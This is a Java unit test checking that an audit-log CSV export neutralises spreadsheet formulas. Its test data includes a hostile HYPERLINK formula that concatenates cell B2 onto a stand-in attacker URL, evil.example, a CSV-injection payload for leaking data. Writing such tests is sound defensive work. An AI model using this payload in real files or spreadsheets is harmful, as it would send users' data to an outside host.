package com.demarc.audit.ui;

import com.demarc.audit.AuditAction;
import com.demarc.audit.AuditFilter;
import com.demarc.audit.AuditLog;
import com.demarc.support.DemarcTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.test.context.support.WithUserDetails;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;

/** A hostile summary written into the audit log (e.g. a file or evidence title) exports as text, not a formula. */
@DemarcTest
class AuditLogCsvTest {
    @Autowired
    AuditLog audit;

    @Test
    @WithUserDetails("auditor")
    void theAuditLogExportNeutralisesFormulas() throws Exception {
        String hostile = "=HYPERLINK(\"https://evil.example/\"&B2,\"open\")";
        String marker = java.util.UUID.randomUUID().toString();
        audit.recordIndependently(AuditAction.EVIDENCE_DOWNLOADED, "evidence", marker, hostile);
        byte[] csv = AuditLogCsv.csv(audit, new AuditFilter(null, AuditAction.EVIDENCE_DOWNLOADED.name(), marker, null, null));
        try (var parser = CSVParser.builder().setReader(new StringReader(new String(csv, StandardCharsets.UTF_8)))
                .setFormat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
            var rows = parser.getRecords();
            assertThat(rows).isNotEmpty();
            assertThat(rows).allSatisfy(r -> assertThat(r.get("summary")).isEqualTo("'" + hostile));
            assertThat(rows.get(0).get("actor")).isEqualTo("auditor");
        }
    }
}
